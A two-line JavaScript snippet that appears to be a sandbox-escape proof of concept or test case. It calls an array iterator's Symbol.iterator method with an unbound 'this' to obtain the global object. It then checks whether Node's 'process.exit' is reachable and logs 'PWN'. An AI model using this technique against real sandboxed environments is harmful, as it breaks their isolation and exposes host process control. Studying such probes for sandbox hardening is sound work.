// Symbol.iterator of iterators gives its this back.
const t = [].values(); function f() { return t[Symbol.iterator].call(this); } console.log('PWN', typeof f().process.exit);
